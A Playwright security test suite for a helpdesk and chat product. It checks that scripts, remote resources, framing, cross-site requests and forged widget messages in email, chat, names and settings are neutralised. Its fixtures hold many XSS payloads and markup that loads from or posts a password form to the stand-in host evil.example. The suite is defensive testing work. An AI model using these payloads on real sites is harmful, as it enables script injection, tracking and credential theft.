// Whoever writes to the house may write anything. It is shown, and it does nothing.
import type { Page, Request } from "@playwright/test";
import { Alarm } from "../kit/alarm.ts";
import { Chat } from "../kit/chat.ts";
import { Desk } from "../kit/desk.ts";
import { expect, test } from "../kit/test.ts";

const EVIL = [
  "<script>parent.ran=top.ran=window.ran=1</script>",
  "<img src=x onerror=\"parent.ran=top.ran=window.ran=1\">",
  "<svg onload=\"parent.ran=top.ran=window.ran=1\"></svg>",
  "<a href=\"javascript:parent.ran=top.ran=window.ran=1\">a link</a>",
  "\"><script>window.ran=1</script>",
  "{{constructor.constructor('window.ran=1')()}}",
];
const ALL = EVIL.join(" ");

/** Whether anything ran, in any frame. */
async function ran(page: Page): Promise<boolean[]> {
  return Promise.all(page.frames().map((frame) => frame.evaluate(() => "ran" in window).catch(() => false)));
}

/** Clicks every link that leads nowhere on the web. */
async function nothingRuns(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    const links = await frame.locator("a[href]").evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).protocol));
    expect(links.filter((protocol) => !/^(https?|mailto|tel|blob):$/.test(protocol))).toEqual([]);
  }
  await page.waitForTimeout(200);
  expect(await ran(page)).not.toContain(true);
}

test("a letter with scripts in every part of it", async ({ portal, people }) => {
  const { api, inbox } = portal;
  const address = { type: "HS_EMAIL_ADDRESS", value: "office@harbour.example" };
  const mail = await api.post("/antiphon/v1/channel-accounts", {
    name: `Office ${EVIL[1]}`,
    channelId: "1002",
    inboxId: inbox,
    deliveryIdentifier: address,
  });
  await api.post("/antiphon/v1/messages/incoming", {
    channelAccountId: mail["id"],
    sender: { name: EVIL[1], email: "evil@elsewhere.example" },
    subject: ALL.slice(0, 900),
    text: ALL,
    richText: `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:parent.ran=1"></head>
      <body onload="parent.ran=top.ran=1" background="javascript:1"><h1>Dear all</h1>${ALL}
      <form action="https://evil.example"><input name="password"><button>Go</button></form>
      <iframe src="javascript:parent.ran=1"></iframe><object data="javascript:1"></object>
      <style>@import url("https://evil.example/x.css"); body { background: url("javascript:1") }</style>
      <table><tr><td style="position:fixed;inset:0;width:expression(1)">A table, so that it is shown as a letter</td></tr></table>
      </body></html>`,
    attachments: [{ type: "FILE", name: `${EVIL[1]}.html`, url: "javascript:window.ran=1", mediaType: "text/html", size: 1 }],
  }).catch(async (error: unknown) => {
    // An address that no browser should follow may also be refused: then without it.
    expect(String(error)).toContain("400");
    await api.post("/antiphon/v1/messages/incoming", {
      channelAccountId: mail["id"],
      sender: { name: EVIL[1], email: "evil@elsewhere.example" },
      subject: ALL.slice(0, 900),
      text: ALL,
      richText: `<h1>Dear all</h1>${ALL}<table><tr><td>A table</td></tr></table>`,
    });
  });
  const desk = await people.agent(await portal.agent(`Ana ${EVIL[2]}`.slice(0, 60)));
  await desk.shelf("Unassigned");
  await desk.list.getByRole("link").first().click();
  await expect(desk.history.getByRole("article")).toHaveCount(1);
  await nothingRuns(desk.page);
  // Nothing is asked of anybody else before the agent wants it.
  const asked: string[] = [];
  const note = (request: Request) => asked.push(new URL(request.url()).host);
  desk.page.on("requestfinished", note);
  // What the frame's policy stops goes nowhere.
  desk.page.on("requestfailed", (request) => request.failure()?.errorText === "csp" || note(request));
  await desk.page.reload();
  await expect(desk.history.getByRole("article")).toHaveCount(1);
  await desk.page.waitForTimeout(300);
  expect(asked.filter((host) => !host.startsWith("127.0.0.1"))).toEqual([]);
  await nothingRuns(desk.page);
});

test("a visitor whose words, page and files are scripts", async ({ portal, people }) => {
  const ana = await people.agent(await portal.agent("Ana Ruiz"));
  const chat = await people.visitor();
  await chat.page.evaluate(() => history.replaceState(null, "", `${location.pathname}?q=<img src=x onerror=alert(1)>`));
  await chat.open();
  for (const text of EVIL) await chat.say(text);
  const page = Buffer.from("<script>window.ran=1</script>");
  await chat.frame.locator('input[type="file"]').setInputFiles({ name: "evil.html", mimeType: "text/html", buffer: page });
  await expect(chat.frame.getByText("Not uploaded")).toBeVisible();
  await chat.frame.getByRole("button", { name: "Remove evil.html" }).click();
  await chat.attach('"><img src=x onerror=window.ran=1>.txt', "text/plain", page);
  await chat.say("with a file");
  await ana.shelf("Unassigned");
  await ana.show("with a file");
  await expect(ana.said(EVIL[0] ?? "")).toBeVisible();
  await nothingRuns(ana.page);
  await nothingRuns(chat.page);
  // What was uploaded is saved, and where a browser opens it all the same, it is nobody.
  const link = ana.history.getByRole("link", { name: /txt$/ });
  const response = await ana.page.request.get((await link.getAttribute("href")) ?? "");
  expect(response.headers()["content-security-policy"]).toContain("sandbox");
  expect(response.headers()["content-disposition"]).toMatch(/^attachment/);
  expect(response.headers()["x-content-type-options"]).toBe("nosniff");
});

test("an agent whose answer has been tampered with reaches the visitor as text", async ({ portal, people }) => {
  const chat = await people.visitor();
  await chat.open();
  await chat.say("Hello");
  const { api } = portal;
  const base = "/conversations/v3/conversations";
  const [thread] = (await api.get(`${base}/threads`))["results"] as [{ id: string }];
  const agent = await portal.agent("Ana Ruiz");
  await api.post(`${base}/threads/${thread.id}/messages`, {
    type: "MESSAGE",
    text: ALL,
    richText: `<p>Hello</p>${ALL}<style>*{display:none}</style>`,
    senderActorId: `A-${agent.id}`,
    channelId: "1000",
    channelAccountId: portal.chat,
  });
  await expect(chat.log.getByText("Ana Ruiz").first()).toBeVisible();
  await nothingRuns(chat.page);
  await expect(chat.field).toBeVisible();
});

test("the inbox cannot be framed, and another site's request is nobody's", async ({ portal, people, server, website }) => {
  const ana = await people.agent(await portal.agent("Ana Ruiz", "ADMIN"));
  const page = await ana.page.context().newPage();
  await page.goto(people.site({ body: `<iframe id="f" src="${people.inbox()}"></iframe>` }));
  const framed = page.frames().find((frame) => frame.url().includes("/inbox/"));
  expect(framed ? await framed.locator("#app").count() : 0).toBe(0);
  const sent = await page.evaluate(async (url) => {
    const answers: string[] = [];
    for (const [method, path, type] of [
      ["POST", "/antiphon/v1/inboxes", "text/plain"],
      ["POST", "/antiphon/v1/agents", "application/x-www-form-urlencoded"],
      ["GET", "/antiphon/v1/session", "text/plain"],
    ] as const) {
      const body = method === "POST" ? { body: '{"name":"Evil"}' } : {};
      const answer = await fetch(url + path, { method, credentials: "include", mode: "no-cors", headers: { "content-type": type }, ...body });
      answers.push(answer.type);
    }
    return answers;
  }, server.desk.url);
  expect(sent).toEqual(["opaque", "opaque", "opaque"]);
  expect(website.url).not.toBe(server.desk.url);
  const inboxes = (await portal.api.get("/conversations/v3/conversations/inboxes"))["results"] as { name: string }[];
  expect(inboxes.map((inbox) => inbox.name)).toEqual(["Harbour office"]);
});

/** Calls the alarm, and asks for something elsewhere, wherever a browser takes it for more than words. */
const CALLS = '"><img src="//evil.example/x" onerror=evil(1)><script>evil(2)</script>';
/** The same where there is less room, */
const BRIEF = "<img src=//evil.example/x onerror=evil(3)>";
/** and with links. */
const LINKS = `<p>${CALLS}<a href="javascript:evil(4)">one</a> <a href="data:text/html,<script>evil(5)</script>">two</a></p>`;

test("words of the house that are scripts are words everywhere, for agents and for visitors", async ({ portal, people, server, website }) => {
  test.slow();
  const { api } = portal;
  const own = [server.desk.url, server.site.url, website.url];
  const ana = await portal.agent("Ana <b onclick=evil(6)> Ruiz", "ADMIN");
  const eve = await portal.agent("<svg onload=evil(7)> Eve");
  // What can only be an address or a colour is nothing else.
  for (const avatar of ["javascript:evil(8)", "data:image/svg+xml,<svg onload=evil(8)>", "//evil.example/x"]) {
    await expect(api.call("PATCH", `/antiphon/v1/agents/${eve.id}`, { avatar })).rejects.toThrow(" 400 ");
  }
  for (const settings of [
    { color: "red;background:url(//evil.example)" },
    { language: "de\"><script>" },
    { domains: ["evil.example; script-src *"] },
    { domains: ["*"] },
    { pages: ["javascript:evil(8)"] },
    { position: "LEFT;" },
  ]) {
    await expect(portal.chats(settings)).rejects.toThrow(" 400 ");
  }
  await portal.chats({ title: BRIEF, welcomeMessage: CALLS, awayMessage: CALLS, quickReplies: [BRIEF], officeHours: { days: [] } });
  await api.post("/antiphon/v1/inboxes", { name: BRIEF });
  const tag = await api.post("/antiphon/v1/tags", { name: BRIEF });
  await api.post("/antiphon/v1/views", { name: BRIEF, shared: true, filter: {}, senderActorId: `A-${ana.id}` });
  const words = { name: BRIEF, shortcut: "evil", text: CALLS, richText: LINKS, shared: true, senderActorId: `A-${ana.id}` };
  await api.post("/antiphon/v1/canned-replies", words);
  await api.post("/antiphon/v1/contacts", { name: CALLS, email: "other@elsewhere.example", phone: "+31205550178" });

  const out = await people.page();
  const outside = await Alarm.in(out, own);
  await out.goto(`${people.site({ settings: { identificationEmail: BRIEF, identificationToken: BRIEF } })}/x?q=${encodeURIComponent(CALLS)}#${CALLS}`);
  const chat = new Chat(out);
  await chat.open();
  await outside.silent();
  await chat.frame.getByRole("button", { name: BRIEF }).click();
  await expect(chat.said(BRIEF)).toBeVisible();
  await chat.say(LINKS);
  await outside.silent();
  // Another one gives a name, and says the rest by hand.
  const widget = `${server.site.url}/widget/v1`;
  const says = async (path: string, body: object, session?: string): Promise<Record<string, unknown>> => {
    const headers = { "content-type": "application/json", ...(session ? { authorization: `Bearer ${session}` } : {}) };
    const answer = await fetch(`${widget}/${path}`, { method: "POST", headers, body: JSON.stringify(body) });
    expect(answer.status, await answer.clone().text()).toBeLessThan(300);
    return (await answer.json()) as Record<string, unknown>;
  };
  const begun = await says(`${portal.id}/sessions`, { accountId: portal.chat, url: `https://evil.example/?${CALLS}`, language: "en" });
  const first = String(begun["session"]);
  const given = await says("contact", { email: "eve@elsewhere.example", name: CALLS }, first);
  const session = String(given["session"]);
  const sent = { text: "I have a name", url: `https://evil.example/?${CALLS}`, clientId: crypto.randomUUID() };
  const thread = ((await says("messages", sent, session))["thread"] as { id: number }).id;
  await api.put(`/antiphon/v1/threads/${thread}/tags`, { add: [tag["id"]] });
  const note = { type: "COMMENT", text: CALLS, richText: LINKS, mentions: [`A-${ana.id}`], senderActorId: `A-${eve.id}` };
  await api.post(`/antiphon/v1/threads/${thread}/replies`, note);

  const page = await people.page();
  const inside = await Alarm.in(page, own);
  const desk = await Desk.open(page, server.desk.url, ana);
  await desk.shelf("Unassigned");
  await desk.show("I have a name");
  await expect(desk.history.getByRole("article")).not.toHaveCount(0);
  await expect(page.getByText(CALLS).first()).toBeVisible();
  await inside.silent();
  for (const name of ["Tags", /^Assign/]) {
    await desk.page.getByRole("main").getByRole("button", { name }).first().click();
    await inside.silent();
    await page.keyboard.press("Escape");
  }
  // Ready-made words are looked for, taken, and sent.
  await desk.choose("Reply");
  await desk.editor.press("End");
  await page.keyboard.type("/evil");
  await expect(page.getByRole("option").first()).toBeVisible();
  await inside.silent();
  await page.keyboard.press("Enter");
  await inside.silent();
  await desk.show(/one two|<p>/);
  await desk.reply(CALLS);
  await inside.silent();
  await expect(chat.said(CALLS).last()).toBeVisible();
  await outside.silent();
  // And wherever else names are shown.
  for (const place of ["mentions", "settings", "settings/account"]) {
    await page.goto(people.inbox(place));
    await expect(desk.views).toBeVisible();
    await inside.silent();
  }
  const places = await page.locator('a[href*="/inbox/settings"]').evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href));
  for (const place of new Set(places)) {
    await page.goto(place);
    await expect(desk.views).toBeVisible();
    await page.waitForLoadState("networkidle").catch(() => undefined);
    await inside.silent();
  }
});

test("a letter calls nobody, wherever in it that stands", async ({ portal, people, server }) => {
  const { api, inbox } = portal;
  const address = { type: "HS_EMAIL_ADDRESS", value: "desk@harbour.example" };
  const mail = await api.post("/antiphon/v1/channel-accounts", { name: "Desk", channelId: "1002", inboxId: inbox, deliveryIdentifier: address });
  const from = "https://evil.example";
  const parts = [
    `<img src="${from}/1"><img srcset="${from}/2 1x"><picture><source srcset="${from}/3"><img src="//evil.example/4"></picture>`,
    `<table background="${from}/5"><tr><td style="background:url(${from}/6);list-style-image:url(${from}/7);cursor:url(${from}/8),auto">x</td></tr></table>`,
    `<style>@import url(${from}/9); @font-face{font-family:e;src:url(${from}/10)} body{font-family:e} p::before{content:url(${from}/11)}</style>`,
    `<video src="${from}/12" poster="${from}/13" autoplay></video><audio src="${from}/14" autoplay></audio><input type="image" src="${from}/15">`,
    `<link rel="stylesheet" href="${from}/16"><link rel="prefetch" href="${from}/17"><link rel="dns-prefetch" href="${from}"><meta http-equiv="refresh" content="0;url=${from}/18">`,
    `<iframe src="${from}/19"></iframe><object data="${from}/20"></object><embed src="${from}/21">`,
    `<svg><image href="${from}/22"/><use href="${from}/23#a"/><script>evil(9)</script></svg><math><mtext><style><img src=x onerror=evil(10)></style></mtext></math>`,
    `<form action="${from}/24"><button>Go</button></form><a href="${from}/25" ping="${from}/26">a page</a>`,
    `<img src="/antiphon/v1/session"><img src="/oauth/authorize"><img src="/inbox/">`,
    `<map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:evil(11)" rel="opener"></map>`,
    `<p onmouseover="evil(12)" style="position:fixed;inset:0;z-index:9">${CALLS}</p><frameset onload="evil(13)"><frame src="javascript:evil(14)"></frameset>`,
  ];
  const who = (at: number) => `Sender ${String.fromCharCode(65 + at)}.`;
  for (const [at, part] of parts.entries()) {
    await api.post("/antiphon/v1/messages/incoming", {
      channelAccountId: mail["id"],
      sender: { name: who(at), email: `evil${at}@elsewhere.example` },
      subject: "A letter",
      text: "Words",
      richText: `<h1>Dear all</h1>${part}<table><tr><td>An end to it ${at}</td></tr></table>`,
    });
  }
  // As high as there are letters: the list makes only those rows that are seen.
  const page = await people.page({ viewport: { width: 1280, height: 1600 } });
  const alarm = await Alarm.in(page, [server.desk.url]);
  const asked: string[] = [];
  page.on("requestfinished", (request) => request.frame().parentFrame() && asked.push(request.url()));
  const desk = await Desk.open(page, server.desk.url, await portal.agent("Ana Ruiz"));
  await desk.shelf("Unassigned");
  for (const at of parts.keys()) {
    await desk.show(who(at));
    await expect(desk.history.getByRole("article")).toHaveCount(1);
    const letter = desk.history.frameLocator("iframe").getByText(`An end to it ${at}`);
    await expect(letter.or(desk.history.getByText(`An end to it ${at}`))).toBeVisible();
    await alarm.silent();
  }
  // Not even something of ours.
  expect(asked).toEqual([]);
});

test("who is not the page around it tells the chat nothing, and nobody tells the page what the chat would", async ({ people, server, website }) => {
  const page = await people.page();
  const alarm = await Alarm.in(page, [server.site.url, website.url]);
  // A frame of somebody else's beside the chat says what chat and page say to each other.
  const key = "f".repeat(32);
  const said = JSON.stringify([
    { type: "key", visitorKey: key },
    { type: "size", width: 2000, height: 2000, open: true },
    { type: "event", name: "conversationStarted", payload: { evil: 1 } },
    { type: "forget" },
    { type: "init", portalId: 1, account: "1", visitorKey: key, url: "javascript:evil(15)", color: "red" },
  ]);
  const script = `for (const one of ${said}) for (const to of [parent, ...parent.frames]) to.postMessage({ ...one, antiphon: 'antiphon-widget' }, '*')`;
  const neighbour = `<script>setInterval(() => { ${script} }, 20)</script>`.replaceAll('"', "&quot;");
  await page.goto(people.site({ body: `<iframe id="neighbour" sandbox="allow-scripts" srcdoc="${neighbour}"></iframe>` }));
  const chat = new Chat(page);
  await chat.open();
  await chat.say("Hello");
  await page.waitForTimeout(200);
  const cookies = await page.context().cookies(website.url);
  const own = cookies.find((cookie) => cookie.name === "messagesUtk")?.value ?? "";
  expect(own).toMatch(/^[0-9a-f]{32}$/);
  expect(own).not.toBe(key);
  const box = await page.locator("#hubspot-messages-iframe-container").boundingBox();
  expect(box?.width).toBeLessThan(1000);
  await alarm.silent();
});
